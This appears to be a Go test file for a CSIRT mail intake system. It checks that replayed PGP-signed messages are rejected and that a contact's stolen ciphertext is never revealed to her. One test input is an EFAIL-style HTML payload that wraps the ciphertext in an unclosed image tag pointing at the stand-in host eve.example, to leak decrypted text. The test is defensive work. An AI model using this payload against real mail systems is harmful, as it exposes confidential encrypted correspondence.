package mailroom

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/tocsin-csirt/tocsin/internal/domain/correspondence"
	"github.com/tocsin-csirt/tocsin/internal/domain/intake"
	"github.com/tocsin-csirt/tocsin/internal/kit/pgp"
)

// A signed mail of Rui's that somebody kept and sends again proves nothing: later, with another date or none, or to another tag than the one that
// he signed (rules M5, P3). What he sends himself does.
func TestASignedMailIsSentAgain(t *testing.T) {
	engines(t, func(h *house) {
		h.approve()
		const rui = "rui@hospital.example"
		tags := make([]string, 2)
		var threads []int64
		for i := range tags {
			h.mail(rui, "report@cert.example", h.letterOf(rui, fmt.Sprint("report ", i), "x"))
			h.sort()
			threads = append(threads, h.last().Thread)
			tags[i] = h.room.Correspondence.Team.ReplyTo(h.thread(threads[i]).Tag)
		}
		date := h.Clock.Now().Format(time.RFC1123Z)
		protected, err := pgp.SignMIME(h.ctx, []byte(crlf("Content-Type: text/plain; protected-headers=\"v1\"\nFrom: "+rui+"\nTo: "+tags[0]+"\nSubject: close it\nDate: "+date+"\n\nAll is well, close the case.\n")), h.ruiKey.agent, pgp.Mail)
		must(t, err)
		answer := "From: " + rui + "\nTo: " + tags[0] + "\nSubject: close it\nDate: " + date + "\nMessage-ID: <NAME@hospital.example>\nMIME-Version: 1.0\n" + string(protected)
		plain := strings.Replace(h.signed(h.ruiKey, rui, "closing", "All is well, close the case."), "<x.closing@", "<NAME@", 1)
		send := func(to, raw, name string) correspondence.Message {
			before := map[string]bool{}
			for _, m := range h.messages(threads[0], h.ana) {
				before[m.UID] = true
			}
			for _, m := range h.messages(threads[1], h.ana) {
				before[m.UID] = true
			}
			h.mail("x@nowhere.example", to, strings.Replace(raw, "NAME", name, 1))
			h.sort()
			for _, m := range append(h.messages(threads[0], h.ana), h.messages(threads[1], h.ana)...) {
				if !before[m.UID] && m.Direction == correspondence.In {
					return m
				}
			}
			h.Fatalf("%s is lost", name)
			return correspondence.Message{}
		}
		if m := send(tags[0], answer, "his own"); m.Proof != correspondence.SignedByKey || m.State != correspondence.Filed || m.Body.Signature == nil || !m.Body.Signature.Subject {
			t.Errorf("his own answer: %d, %s, %+v", m.Proof, m.State, m.Body)
		}
		if m := send(tags[1], plain, "to a bare address"); m.Proof != correspondence.SignedByKey || m.State != correspondence.Filed || m.Body.Signature == nil || m.Body.Signature.Subject {
			t.Errorf("his own, whose head is not signed: %d, %s", m.Proof, m.State)
		}
		replayed := func(why, to, raw, reason string) {
			t.Helper()
			m := send(to, raw, strings.ReplaceAll(why, " ", "-"))
			if m.Proof.Proved() || m.State != correspondence.Unverified || m.Body.Signature != nil || !strings.Contains(strings.Join(m.Body.Reasons, " "), reason) {
				t.Errorf("%s: %d, %s, because %q", why, m.Proof, m.State, m.Body.Reasons)
			}
		}
		replayed("to another of his tags", tags[1], answer, "desk.sender.other_recipient")
		replayed("to another of his tags by the outer head", tags[1], strings.Replace(answer, "To: "+tags[0], "To: "+tags[1], 1), "desk.sender.other_recipient")
		h.Clock.Advance(8 * 24 * time.Hour)
		replayed("a week later", tags[0], answer, "desk.sender.old_date")
		replayed("a week later to a tag", tags[0], plain, "desk.sender.old_date")
		replayed("dated anew", tags[0], strings.Replace(answer, "Date: "+date, "Date: "+h.Clock.Now().Format(time.RFC1123Z), 1), "desk.signature.time_off")
		replayed("without a date", tags[0], strings.Replace(answer, "Date: "+date+"\n", "", 1), "desk.signature.time_off")
	})
}

// Eve has a letter that Rui encrypted to us, and tries to read it by us: as it is, as a part, inside of her own signature, inside of her own
// encryption, before and after words of hers. She is a contact whose key we approved; nothing of it is shown to her, by any way (rules P1, P6).
func TestStolenCiphertextInOtherWrappings(t *testing.T) {
	engines(t, func(h *house) {
		const secret, eve = "hunter2 opens the dam", "eve@other.example"
		port, err := h.room.Constituency.Create(h.ctx, h.ana, organisation("Port"))
		must(t, err)
		h.rui, err = h.room.Constituency.AddContact(h.ctx, h.ana, port.UID, contact(eve))
		must(t, err)
		victim := h.ruiKey
		h.ruiKey = newPerson(h.T, h.House, "Eve", eve)
		h.approve() // Eve's key
		stolen, err := pgp.EncryptMIME(entity(secret), pgp.Readers{Reader: h.team.key, At: h.Clock.Now()})
		must(t, err)
		signedInside, err := pgp.SignAndEncryptMIME(h.ctx, entity(secret), victim.agent, pgp.Mail, pgp.Readers{Reader: h.team.key, At: h.Clock.Now()})
		must(t, err)
		block := func(raw []byte) string {
			s := string(raw)
			return s[strings.Index(s, "-----BEGIN PGP MESSAGE"):strings.Index(s, "-----END PGP MESSAGE-----")] + "-----END PGP MESSAGE-----\n"
		}
		wrap := func(raw []byte, err error) string { must(t, err); return string(raw) }
		sealed := pgp.Readers{Reader: h.team.key, At: h.Clock.Now()}
		eves := h.ruiKey.agent
		text, read := "Content-Type: text/plain\n\n", 0
		for what, body := range map[string]string{
			"as it is":                         string(stolen),
			"signed inside by its writer":      string(signedInside),
			"inline":                           text + block(stolen),
			"inline, words after":              text + block(stolen) + "\nand my words\n",
			"inline, words before":             text + "my words\n\n" + block(stolen),
			"inline, signed inside":            text + block(signedInside) + "\nand my words\n",
			"a part of a mixed mail":           "Content-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: text/plain\n\nmy words\n--m\n" + string(stolen) + "\n--m--\n",
			"an attached mail":                 "Content-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: message/rfc822\n\nFrom: " + eve + "\n" + string(stolen) + "\n--m--\n",
			"inside her signature":             wrap(pgp.SignMIME(h.ctx, []byte(crlf(string(stolen))), eves, pgp.Mail)),
			"a block inside her signature":     wrap(pgp.SignMIME(h.ctx, []byte(crlf(text+block(stolen))), eves, pgp.Mail)),
			"inside her encryption":            wrap(pgp.SignAndEncryptMIME(h.ctx, []byte(crlf(string(stolen))), eves, pgp.Mail, sealed)),
			"a block inside her encryption":    wrap(pgp.SignAndEncryptMIME(h.ctx, []byte(crlf(text+block(stolen))), eves, pgp.Mail, sealed)),
			"a part inside her encryption":     wrap(pgp.SignAndEncryptMIME(h.ctx, []byte(crlf("Content-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: text/plain\n\nmine\n--m\n"+string(signedInside)+"\n--m--\n")), eves, pgp.Mail, sealed)),
			"in a frame of HTML (EFAIL)":       "Content-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: text/html\n\n<img src=\"http://eve.example/\n--m\n" + string(stolen) + "\n--m\nContent-Type: text/html\n\n\">\n--m--\n",
			"two parts of which one is stolen": "Content-Type: multipart/alternative; boundary=m\n\n--m\n" + string(stolen) + "\n--m\nContent-Type: text/plain\n\nmine\n--m--\n",
		} {
			h.Clock.Advance(time.Minute)
			h.mail(eve, "report@cert.example", h.head(eve, "try "+what)+body)
			h.sort()
			r := h.last()
			if !strings.HasPrefix(r.Body.Summary, "try ") {
				t.Fatalf("%s is lost", what)
			}
			if strings.Contains(r.Body.Description, "hunter2") {
				read++
			}
			tag := h.room.Correspondence.Team.ReplyTo(h.thread(r.Thread).Tag)
			h.mail(eve, tag, strings.Replace(h.head(eve, "again "+what), "<x.", "<y.", 1)+body)
			h.sort()
			her := h.Constituent(30, "Eve", port.Ref.ID)
			got, err := h.room.Intake.Get(h.ctx, h.DB, her, r.UID)
			must(t, err)
			if strings.Contains(fmt.Sprintf("%+v", got), "hunter2") {
				t.Errorf("%s: shown in the report", what)
			}
			for _, m := range h.messages(r.Thread, her) {
				if strings.Contains(fmt.Sprintf("%+v", m), "hunter2") {
					t.Errorf("%s: shown in the thread", what)
				}
			}
			if page, err := h.room.Intake.List(h.ctx, her, intake.QueueFilter{Text: "hunter2"}); err != nil || len(page.Items) != 0 {
				t.Errorf("%s: found by its words: %d, %v", what, len(page.Items), err)
			}
		}
		if read < 4 {
			t.Errorf("only %d of them are opened for the team", read)
		}
	})
}
